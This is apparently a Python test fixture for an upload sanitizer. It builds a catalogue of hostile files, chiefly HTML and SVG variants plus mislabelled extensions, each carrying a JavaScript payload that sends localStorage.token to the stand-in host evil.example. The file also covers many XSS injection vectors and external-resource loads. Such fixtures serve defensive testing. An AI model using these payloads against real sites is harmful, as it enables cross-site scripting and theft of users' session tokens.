"""What a stranger may hand in to run a program or to ask another host: files beside a text, and elements of its body."""

from __future__ import annotations

import base64
from pathlib import Path

EVIL = "https://evil.example"
CODE = f"localStorage.run=1;new Image().src='{EVIL}/'+localStorage.token;fetch('{EVIL}/f')"
_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:h="http://www.w3.org/1999/xhtml" %s>%s</svg>'
)
_PAGE = f"<!doctype html><title>x</title><script>{CODE}</script><img src='{EVIL}/i'>"
_DRAWN = base64.b64encode((_SVG % ("", f"<script>{CODE}</script>")).encode()).decode()


def _svg(inside: str, attributes: str = "") -> bytes:
    return (_SVG % (attributes, inside)).encode()


FILES: dict[str, tuple[str, bytes]] = {  # name -> the type that a server sends by its ending, and its bytes
    "doc.html": ("text/html", _PAGE.encode()),
    "page.htm": ("text/html", b'<script src="code.js"></script>'),
    "a.xhtml": ("application/xhtml+xml", f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{CODE}</script></html>'.encode()),
    "a.xml": ("text/xml", f'<x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>{CODE}</h:script></x>'.encode()),
    "styled.xml": ("text/xml", f'<?xml-stylesheet href="{EVIL}/a.css"?><x/>'.encode()),
    "a.js": ("text/javascript", CODE.encode()),
    "a.shtml": ("text/html", _PAGE.encode()),
    "a.mht": ("multipart/related", _PAGE.encode()),
    "a.hta": ("text/html", _PAGE.encode()),
    "page.jpg": ("image/jpeg", _PAGE.encode()),
    "page.png": ("text/html", _PAGE.encode()),
    "page.pdf": ("text/html", _PAGE.encode()),
    "page.txt": ("text/html", _PAGE.encode()),
    "page.csv": ("text/html", _PAGE.encode()),
    "page.mp4": ("text/html", _PAGE.encode()),
    "commented.txt": ("text/html", b"<!-- x -->\n" + _PAGE.encode()),
    "photo.html.jpg": ("text/html", _PAGE.encode()),
    "a.svgz": ("image/svg+xml", _svg(f"<script>{CODE}</script>")),
    "script.svg": ("image/svg+xml", _svg(f"<script>{CODE}</script>")),
    "linked.svg": ("image/svg+xml", _svg('<script href="a.js"/>')),
    "xlinked.svg": ("image/svg+xml", _svg(f'<script xlink:href="{EVIL}/a.js"/>')),
    "onload.svg": ("image/svg+xml", _svg("", f'onload="{CODE}"')),
    "foreign.svg": ("image/svg+xml", _svg(f'<foreignObject><h:img src="x" onerror="{CODE}"/></foreignObject>')),
    "frame.svg": ("image/svg+xml", _svg(f'<foreignObject><h:iframe src="{EVIL}"/></foreignObject>')),
    "image.svg": ("image/svg+xml", _svg(f'<image href="{EVIL}/1" width="9" height="9"/>')),
    "use.svg": ("image/svg+xml", _svg(f'<use href="data:image/svg+xml;base64,{_DRAWN}#x"/>')),
    "fe.svg": ("image/svg+xml", _svg(f'<filter id="f"><feImage href="{EVIL}/2"/></filter><rect filter="url(#f)" width="9"/>')),
    "paint.svg": ("image/svg+xml", _svg(f'<rect fill="url({EVIL}/3#a)" width="9" height="9"/>')),
    "mask.svg": ("image/svg+xml", _svg(f'<rect mask="url({EVIL}/4#a)" width="9" height="9"/>')),
    "style.svg": ("image/svg+xml", _svg(f"<style>@import '{EVIL}/5.css';</style>")),
    "attribute.svg": ("image/svg+xml", _svg(f'<rect style="filter:url({EVIL}/6#f)" width="9" height="9"/>')),
    "entity.svg": ("image/svg+xml", f"<!DOCTYPE svg [<!ENTITY e '&#60;script>{CODE}'>]>".encode() + _svg("&e;")),
    "sheet.svg": ("image/svg+xml", f'<?xml-stylesheet href="{EVIL}/7.css"?>'.encode() + _svg("")),
    "animated.svg": ("image/svg+xml", _svg(f'<a><animate attributeName="href" values="javascript:{CODE}"/></a>')),
    "set.svg": ("image/svg+xml", _svg(f'<set attributeName="onload" to="{CODE}"/>')),
    "harmless.svg": ("image/svg+xml", _svg('<rect width="9" height="9" fill="red"/>')),
    "harmless.txt": ("text/plain", b"only words"),
}  # fmt: skip
ELEMENTS = tuple(
    line.replace("{EVIL}", EVIL).replace("{CODE}", CODE)
    for line in Path(__file__).with_name("strangers.txt").read_text("utf-8").splitlines()
)
